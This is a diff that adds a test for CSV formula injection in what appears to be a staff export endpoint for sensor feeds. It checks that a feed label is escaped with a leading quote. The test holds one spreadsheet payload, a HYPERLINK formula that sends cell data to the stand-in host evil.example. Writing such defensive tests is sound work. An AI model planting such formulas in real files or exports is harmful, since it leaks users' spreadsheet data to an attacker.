@@ -88,3 +88,14 @@ def test_explorer_page_passes_the_site_time_zone(viewer, settings, feeds):
     assert 'option value="raw"' in html and 'option value="daily"' in html
     # Feeds listed under the node (tag) they came from.
     assert "<legend>hall</legend>" in html and "<legend>roof</legend>" in html
+
+
+def test_a_feed_label_that_starts_like_a_formula_is_text(viewer, feeds):
+    # the header carries tag:name as typed; a spreadsheet would run =HYPERLINK(...)
+    temp, _ = feeds
+    temp.tag = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    temp.save()
+    url = f"/staff/feeds/export.csv?ids={temp.pk}&start={T0}&end={T0 + 290}&interval=raw"
+    rows = _rows(_login(viewer).get(url))
+    assert rows[0][2] == '\'=HYPERLINK("http://evil.example/?"&A1,"click"):temp (°C)'
+    assert float(rows[1][2]) == TEMPS[0][1]
